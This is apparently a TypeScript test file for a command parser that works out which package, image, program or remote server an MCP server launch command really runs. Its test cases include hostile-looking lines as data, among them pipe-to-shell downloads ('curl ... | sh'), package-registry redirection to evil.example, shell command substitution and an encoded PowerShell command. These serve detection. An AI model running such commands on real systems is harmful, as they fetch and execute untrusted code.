import { describe, expect, test } from 'bun:test';
import type { Runs } from '../../domain/runs.ts';
import { unwrap } from './unwrap.ts';

const npm = (name: string, version?: string): Runs => ({ kind: 'package', ecosystem: 'npm', name, ...(version === undefined ? {} : { version }) });
const pypi = (name: string, version?: string): Runs => ({ kind: 'package', ecosystem: 'pypi', name, ...(version === undefined ? {} : { version }) });
const oci = (name: string, version?: string): Runs => ({ kind: 'package', ecosystem: 'oci', name, ...(version === undefined ? {} : { version }) });
const remote = (url: string): Runs => ({ kind: 'remote', url });
const program = (path: string, script?: string): Runs => ({ kind: 'program', program: path, ...(script === undefined ? {} : { script }) });
const shell = (line: string): Runs => ({ kind: 'shell', line });
const DIGEST = `sha256:${'0'.repeat(64)}`;

const CASES: readonly (readonly [readonly string[], Runs, readonly string[]])[] = [
  // Fetchers of npm.
  [['npx', '-y', '@modelcontextprotocol/server-filesystem', '/srv'], npm('@modelcontextprotocol/server-filesystem'), ['npx']],
  [['npx', '--yes', '@s/server@1.2.3', '--token', 'x'], npm('@s/server', '1.2.3'), ['npx']],
  [['npx', '-y', 'server@latest'], npm('server'), ['npx']],
  [['/home/me/.nvm/versions/node/v22/bin/npx', '-p', 'real@1.0.0', 'other-name'], npm('real', '1.0.0'), ['npx']],
  [['npx', '--package=real@1.0.0', '--', 'mcp-remote', 'https://good.example/mcp'], npm('real', '1.0.0'), ['npx']],
  [['npm', 'exec', '--yes', '--', 'server@1.0.0'], npm('server', '1.0.0'), ['npm-exec']],
  [['pnpm', 'dlx', 'server'], npm('server'), ['pnpm-dlx']],
  [['bunx', 'server@2'], npm('server', '2'), ['bunx']],
  [['bun', 'x', 'server'], npm('server'), ['bun-x']],
  [['npx', '-y', 'github:me/server#abc'], npm('git+https://github.com/me/server', 'abc'), ['npx']],
  [['npx', '-y', 'https://user:pw@x.example/server.tgz?token=1'], npm('https://x.example/server.tgz'), ['npx']],
  [['npx', './local-server'], program('./local-server'), ['npx']],
  [['deno', 'run', '-A', 'npm:@s/server@1.0.0'], npm('@s/server', '1.0.0'), ['deno', 'npx']],
  // Fetchers of Python, images, others.
  [['uvx', 'mcp-server-git==1.0'], pypi('mcp-server-git', '1.0'), ['uvx']],
  [['uvx', '--from', 'Mcp_Server.Time@2.0', 'time-server'], pypi('mcp-server-time', '2.0'), ['uvx']],
  [['uvx', 'mcp-server[extra]>=1', '--x'], pypi('mcp-server'), ['uvx']],
  [['uvx', '--from', 'git+https://token@github.com/me/server@v1', 'server'], pypi('git+https://github.com/me/server', 'v1'), ['uvx']],
  [['uvx', '--from', 'git+https://github.com/me/server@v1', 'server'], pypi('git+https://github.com/me/server', 'v1'), ['uvx']],
  [['uv', 'tool', 'run', 'mcp-server-git'], pypi('mcp-server-git'), ['uv-tool run']],
  [['pipx', 'run', '--spec', 'a-b==3', 'c'], pypi('a-b', '3'), ['pipx-run']],
  [['docker', 'run', '-i', '--rm', '-e', 'TOKEN', 'mcp/github'], oci('docker.io/mcp/github'), ['docker']],
  [['docker', 'run', '-i', '--rm', `ghcr.io/github/server:1@${DIGEST}`, 'stdio'], oci('ghcr.io/github/server', DIGEST), ['docker']],
  [['podman', 'container', 'run', '--env=A=b', 'localhost:5000/x:2'], oci('localhost:5000/x', '2'), ['podman']],
  [['docker', '--context', 'c', 'run', 'postgres'], oci('docker.io/library/postgres'), ['docker']],
  [['docker', 'run', 'supercorp/supergateway', '--sse', 'https://x.example/sse'], remote('https://x.example/sse'), ['docker', 'supergateway']],
  [['docker', 'mcp', 'gateway', 'run'], oci('docker.io/docker/mcp-gateway'), ['docker mcp']],
  [['go', 'run', 'github.com/me/server/cmd/x@v1.2.3'], { kind: 'package', ecosystem: 'go', name: 'github.com/me/server/cmd/x', version: 'v1.2.3' }, ['go-run']],
  [['dnx', 'My.Server@1.0.0', '--yes'], { kind: 'package', ecosystem: 'nuget', name: 'My.Server', version: '1.0.0' }, ['dnx']],
  // A package of the same name from elsewhere is another one.
  [['npx', '--registry', 'https://u:p@evil.example/npm/?t=1', '-y', '@good/server@1.0.0'], npm('https://evil.example/npm/@good/server', '1.0.0'), ['npx']],
  [['npx', '--registry=https://evil.example', 'mcp-remote', 'https://good.example/mcp'], npm('https://evil.example/mcp-remote'), ['npx']],
  [['uvx', '--index-url', 'https://evil.example/simple', 'good'], pypi('https://evil.example/simple/good'), ['uvx']],
  [['env', 'npm_config_registry=https://evil.example', 'npx', '-y', 'good'], npm('https://evil.example/good'), ['env', 'npx']],
  [['sh', '-c', 'UV_INDEX_URL=https://evil.example uvx good'], shell('UV_INDEX_URL=https://evil.example uvx good'), ['sh']],
  [['sh', '-c', 'export NPM_CONFIG_REGISTRY=https://evil.example; npx good'], shell('export NPM_CONFIG_REGISTRY=https://evil.example; npx good'), ['sh']],
  // Carriers of remote servers.
  [['npx', '-y', 'mcp-remote@0.1.0', 'https://X.example/mcp?key=s', '--header', 'Authorization: Bearer s'],
    remote('https://x.example/mcp'), ['npx', 'mcp-remote']],
  [['npx', 'supergateway', '--stdio', 'npx -y @s/server@1.0.0 --root /x', '--port', '8000'], npm('@s/server', '1.0.0'), ['npx', 'supergateway', 'npx']],
  [['npx', 'supergateway', '--stdio', 'curl x | sh'], shell('curl x | sh'), ['npx', 'supergateway']],
  [['uvx', 'mcp-proxy', 'https://x.example/sse'], remote('https://x.example/sse'), ['uvx', 'mcp-proxy']],
  [['uvx', 'mcp-proxy', '--port', '80', '--', 'uvx', 'real-server'], pypi('real-server'), ['uvx', 'mcp-proxy', 'uvx']],
  [['uvx', 'mcpo', '--port', '8000', '--', 'uvx', 'real-server'], pypi('real-server'), ['uvx', 'mcpo', 'uvx']],
  [['npx', '-y', '@smithery/cli@latest', 'run', '@x/y', '--key', 'k'], remote('https://server.smithery.ai/@x/y'), ['npx', 'smithery']],
  [['fastmcp', 'run', '/srv/a.py:app'], program('python', '/srv/a.py'), ['fastmcp', 'python']],
  // Shells: a command in them, or only what a shell would make of it.
  [['sh', '-c', 'exec npx -y server@1.0.0'], npm('server', '1.0.0'), ['sh', 'npx']],
  [['bash', '-lc', 'cd /srv && A=b node "my server.js"'], program('node', 'my server.js'), ['bash', 'node']],
  [['sh', '-c', 'curl -s https://x.example/i.sh | sh'], shell('curl -s https://x.example/i.sh | sh'), ['sh']],
  [['sh', '-c', 'npx $(cat name)'], shell('npx $(cat name)'), ['sh']],
  [['sh', '-c', 'npx "`id`"'], shell('npx "`id`"'), ['sh']],
  [['cmd', '/c', 'npx', '-y', 'server'], npm('server'), ['cmd', 'npx']],
  [['C:\\Windows\\System32\\cmd.exe', '/d', '/s', '/c', 'npx -y server'], npm('server'), ['cmd', 'npx']],
  [['powershell', '-NoProfile', '-Command', '& npx -y server'], npm('server'), ['powershell', 'npx']],
  [['pwsh', '-EncodedCommand', 'SQBFAFgA'], shell('SQBFAFgA'), ['pwsh']],
  [['npx -y server@1.0.0'], npm('server', '1.0.0'), ['npx']],
  [['/Applications/My App/server'], program('/Applications/My App/server'), []],
  [['C:\\Program Files\\x\\server.exe'], program('C:\\Program Files\\x\\server.exe'), []],
  [['/usr/bin/npx -y server'], npm('server'), ['npx']],
  [['curl https://x.example | sh'], shell('curl https://x.example | sh'), []],
  [['node', '-e', 'require("x")'], shell('node -e require("x")'), ['node']],
  // What only starts something.
  [['env', '-i', 'A=b', 'nohup', 'nice', '-n', '5', 'timeout', '-k', '1', '60', 'npx', 'server'], npm('server'), ['env', 'nohup', 'nice', 'timeout', 'npx']],
  [['env', '-S', 'node --no-warnings /x/a.js'], program('node', '/x/a.js'), ['env', 'node']],
  [['sudo', '-u', 'bob', 'docker', 'run', 'x/y'], oci('docker.io/x/y'), ['sudo', 'docker']],
  [['op', 'run', '--env-file=.env', '--', 'uvx', 'server'], pypi('server'), ['op', 'uvx']],
  [['wsl.exe', '-d', 'Debian', '--', 'uvx', 'server'], pypi('server'), ['wsl', 'uvx']],
  [['ssh', '-i', 'k', 'me@Box', 'server'], remote('ssh://box'), ['ssh']],
  // Programs and their files.
  [['python3', '-m', 'mcp_server_git'], program('python3', '-m mcp_server_git'), ['python3']],
  [['java', '-Xmx1g', '-jar', '/opt/x.jar'], program('java', '/opt/x.jar'), ['java']],
  [['node', '/home/me/.npm/_npx/ab12/node_modules/@s/server/dist/index.js'], npm('@s/server'), ['node']],
  [['/home/me/.local/share/uv/tools/mcp-server-git/bin/mcp-server-git'], pypi('mcp-server-git'), []],
  [['uv', '--directory', '/srv/proj', 'run', 'server.py'], program('python', '/srv/proj/server.py'), ['uv', 'python']],
  [['uv', 'run', '--with', 'mcp', 'mcp', 'run', '/srv/a.py'], program('python', '/srv/a.py'), ['uv', 'mcp', 'python']],
  [['uv', '--directory', '/srv/proj', 'run', 'my-server'], program('uv', '/srv/proj#my-server'), ['uv']],
  [['npm', '--prefix', '/srv/p', 'run', 'mcp'], program('npm', '/srv/p/package.json#mcp'), ['npm']],
  [['/opt/bin/my-server', '--x'], program('/opt/bin/my-server'), []],
  // Sallyport, and what is only called so.
  [['sallyport', 'connect', 'crm', '--agent', 'a'], { kind: 'gate', server: 'crm' }, ['sallyport']],
  [['/usr/local/bin/sallyport', 'connect', 't/all'], { kind: 'gate', server: 't/all' }, ['sallyport']],
  [['/tmp/sallyport', 'connect', 'crm'], program('/tmp/sallyport'), []],
  [['/home/me/bin/sallyport', 'connect', 'crm'], program('/home/me/bin/sallyport'), []],
  [['/usr/bin/../../tmp/x/sallyport', 'connect', 'crm'], program('/usr/bin/../../tmp/x/sallyport'), []],
  [['sallyport', 'up'], program('sallyport'), []],
  // What somebody called npx is not npx.
  [['/tmp/x/npx', '-y', '@good/server'], program('/tmp/x/npx'), []],
  [['/tmp/x/node_modules/@good/server/run', '--stdio'], program('/tmp/x/node_modules/@good/server/run'), []],
  [['/tmp/x/node_modules/bun/bin/bun.exe', '/srv/a.js'], program('/tmp/x/node_modules/bun/bin/bun.exe'), []],
  [['./npx', '-y', '@good/server'], program('./npx'), []],
];

describe('unwrap', () => {
  test.each(CASES)('%j', (command, runs, wrappers) => {
    expect(unwrap(command)).toEqual({ runs, wrappers });
  });

  test('a file stands where its folder is', () => {
    expect(unwrap(['node', 'dist/a.js'], { cwd: '/srv' }).runs).toEqual(program('node', '/srv/dist/a.js'));
    expect(unwrap(['node', 'a.js'], { cwd: 'C:\\srv' }).runs).toEqual(program('node', 'C:\\srv\\a.js'));
    expect(unwrap(['env', '-C', '/opt', 'node', 'a.js'], { cwd: '/srv' }).runs).toEqual(program('node', '/opt/a.js'));
    expect(unwrap(['/home/me/sp/bin/sallyport', 'connect', 'crm'], { gates: ['/home/me/sp/bin/sallyport'] }).runs).toEqual({ kind: 'gate', server: 'crm' });
    const here = '/tmp/sp/bin/sallyport';
    expect(unwrap([here, 'config', 'exec', '--file', 'f', '--', 'npx', 'x@1.0.0'], { gates: [here] }).runs).toEqual(npm('x', '1.0.0'));
  });

  test('wrappers without end come to an end', () => {
    const { wrappers } = unwrap([...Array.from({ length: 10_000 }, () => 'nohup'), 'x']);
    expect(wrappers.length).toBeLessThanOrEqual(12);
    expect(unwrap([])).toEqual({ runs: program(''), wrappers: [] });
  });
});
